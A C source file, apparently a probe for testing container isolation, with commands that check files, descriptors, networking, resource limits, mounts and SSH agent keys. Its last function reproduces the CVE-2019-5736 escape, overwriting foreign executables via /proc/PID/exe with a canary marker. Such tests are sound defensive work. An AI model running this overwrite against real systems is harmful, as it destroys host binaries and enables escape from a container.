#include "probe.h"

#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <net/if.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

/* ls FOLDER: names, in no order */
int run_list(int count, char **words)
{
	DIR *folder = opendir(words[1]);
	if (!folder)
		return fail("ls", words[1]);
	for (struct dirent *entry; (entry = readdir(folder));)
		if (strcmp(entry->d_name, ".") != 0 && strcmp(entry->d_name, "..") != 0)
			puts(entry->d_name);
	closedir(folder);
	return 0;
}

/* descriptors: "NUMBER TARGET" of each that was open at the start */
int run_descriptors(int count, char **words)
{
	for (int fd = 0; fd < 1024; fd++) {
		char path[64], target[4096];
		if (fcntl(fd, F_GETFD) < 0)
			continue;
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		ssize_t length = readlink(path, target, sizeof target - 1);
		target[length > 0 ? length : 0] = '\0';
		printf("%d %s\n", fd, target);
	}
	return 0;
}

/* terminal: which of 0, 1, 2 are one, and its size */
int run_terminal(int count, char **words)
{
	struct winsize size = {0};
	ioctl(STDIN_FILENO, TIOCGWINSZ, &size);
	printf("terminal %d%d%d rows %u columns %u\n", isatty(0), isatty(1), isatty(2), size.ws_row, size.ws_col);
	return 0;
}

static void on_end(int number)
{
	_exit(128 + number);
}

static void answer(int connection, const struct sockaddr_in *peer, const char *text)
{
	char request[4096], address[INET_ADDRSTRLEN], body[512];
	struct timeval patience = {5, 0};
	setsockopt(connection, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
	inet_ntop(AF_INET, &peer->sin_addr, address, sizeof address);
	if (read(connection, request, sizeof request) <= 0)
		return;
	int length = snprintf(body, sizeof body, "%s from %s\n", text, address);
	dprintf(connection, "HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n%s", length, body);
	printf("request from %s\n", address);
	fflush(stdout);
	shutdown(connection, SHUT_WR);
	while (read(connection, request, sizeof request) > 0)
		;
}

/* serve PORT [TEXT]: answers HTTP with "TEXT from ADDRESS" */
int run_serve(int count, char **words)
{
	int one = 1;
	int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	struct sockaddr_in own = {.sin_family = AF_INET, .sin_port = htons((uint16_t)strtoul(words[1], NULL, 10))};
	signal(SIGTERM, on_end);
	signal(SIGINT, on_end);
	signal(SIGPIPE, SIG_IGN);
	setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	if (listener < 0 || bind(listener, (struct sockaddr *)&own, sizeof own) < 0 || listen(listener, 64) < 0)
		return fail("serve", words[1]);
	puts("ready");
	fflush(stdout);
	for (;;) {
		struct sockaddr_in peer;
		socklen_t size = sizeof peer;
		int connection = accept(listener, (struct sockaddr *)&peer, &size);
		if (connection < 0)
			continue;
		answer(connection, &peer, count > 2 ? words[2] : "hello");
		close(connection);
	}
}

/* fetch ADDRESS PORT: what a server answers to a GET of / */
int run_fetch(int count, char **words)
{
	char bytes[4096];
	ssize_t got;
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons((uint16_t)strtoul(words[2], NULL, 10))};
	inet_pton(AF_INET, words[1], &peer.sin_addr);
	if (fd < 0 || connect(fd, (struct sockaddr *)&peer, sizeof peer) < 0)
		return fail("fetch", words[1]);
	dprintf(fd, "GET / HTTP/1.0\r\n\r\n");
	shutdown(fd, SHUT_WR);
	while ((got = read(fd, bytes, sizeof bytes)) > 0)
		fwrite(bytes, 1, (size_t)got, stdout);
	return 0;
}

/* interfaces: "NAME ADDRESS" */
int run_interfaces(int count, char **words)
{
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	struct if_nameindex *list = if_nameindex();
	for (struct if_nameindex *item = list; item && item->if_index; item++) {
		struct ifreq request = {0};
		char address[INET_ADDRSTRLEN] = "-";
		strncpy(request.ifr_name, item->if_name, IFNAMSIZ - 1);
		if (ioctl(fd, SIOCGIFADDR, &request) == 0)
			inet_ntop(AF_INET, &((struct sockaddr_in *)&request.ifr_addr)->sin_addr, address,
				  sizeof address);
		printf("%s %s\n", item->if_name, address);
	}
	if_freenameindex(list);
	return 0;
}

/* memory MEBIBYTES: touches that much, prints "done" */
int run_memory(int count, char **words)
{
	size_t size = (size_t)strtoul(words[1], NULL, 10) << 20;
	volatile char *bytes = malloc(size);
	if (!bytes)
		return fail("memory", words[1]);
	for (size_t i = 0; i < size; i += 4096)
		bytes[i] = 1;
	puts("done");
	return 0;
}

/* processes COUNT: tries to have that many at once, prints how many it got */
int run_processes(int count, char **words)
{
	long wanted = strtol(words[1], NULL, 10), made = 0;
	pid_t *pids = calloc((size_t)wanted, sizeof *pids);
	for (; pids && made < wanted; made++) {
		pids[made] = fork();
		if (pids[made] < 0)
			break;
		if (pids[made] == 0) {
			pause();
			_exit(0);
		}
	}
	printf("made %ld\n", made);
	for (long i = 0; i < made; i++) {
		kill(pids[i], SIGKILL);
		waitpid(pids[i], NULL, 0);
	}
	return 0;
}

/* agent KIND: asks what listens at $SSH_AUTH_SOCK with a message of that kind alone: "answer KIND", and of 12 how many
 * keys */
int run_agent(int count, char **words)
{
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	unsigned char question[5] = {0, 0, 0, 1, (unsigned char)strtol(words[1], NULL, 10)}, answer[4096];
	const char *path = getenv("SSH_AUTH_SOCK");
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	snprintf(address.sun_path, sizeof address.sun_path, "%s", path ? path : "");
	if (fd < 0 || connect(fd, (struct sockaddr *)&address, sizeof address) < 0)
		return fail("agent", address.sun_path);
	if (write(fd, question, sizeof question) != sizeof question || read(fd, answer, sizeof answer) < 5)
		return fail("agent", "ask");
	printf("answer %d", answer[4]);
	if (answer[4] == 12)
		printf(" keys %d", answer[8]);
	puts("");
	return 0;
}

/* socket FAMILY: its number; whether the kernel gives one */
int run_socket(int count, char **words)
{
	int fd = socket((int)strtol(words[1], NULL, 10), SOCK_SEQPACKET, 0);
	if (fd < 0)
		return fail("socket", words[1]);
	puts("got one");
	return 0;
}

/* mount TYPE [OPTIONS]: on /tmp */
int run_mount(int count, char **words)
{
	mkdir("/tmp", 0777);
	if (mount("none", "/tmp", words[1], 0, count > 2 ? words[2] : NULL) < 0)
		return fail("mount", words[1]);
	puts("mounted");
	return 0;
}

/*
 * attack FOLDER: overwrites whatever program a process of this container is executing, through its /proc/PID/exe, as
 * CVE-2019-5736 did. Prints each program that it could open for writing.
 */
int run_attack(int count, char **words)
{
	long rounds = strtol(words[1], NULL, 10);
	puts("ready");
	fflush(stdout);
	for (long round = 0; round < rounds; round++) {
		for (int pid = 1; pid < 64; pid++) {
			char path[64], own[64];
			struct stat theirs, ours;
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			snprintf(own, sizeof own, "/proc/%d/exe", (int)getpid());
			if (stat(path, &theirs) < 0 || stat(own, &ours) < 0 || theirs.st_ino == ours.st_ino)
				continue;
			char link[256];
			ssize_t length = readlink(path, link, sizeof link - 1);
			printf("saw a foreign program: %.*s\n", (int)(length < 0 ? 0 : length), link);
			int fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd < 0)
				continue;
			snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
			int writable = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
			if (writable >= 0)
				printf("overwritten %zd\n", write(writable, "#!/canary\n", 10));
			close(writable);
			close(fd);
		}
	}
	puts("over");
	return 0;
}
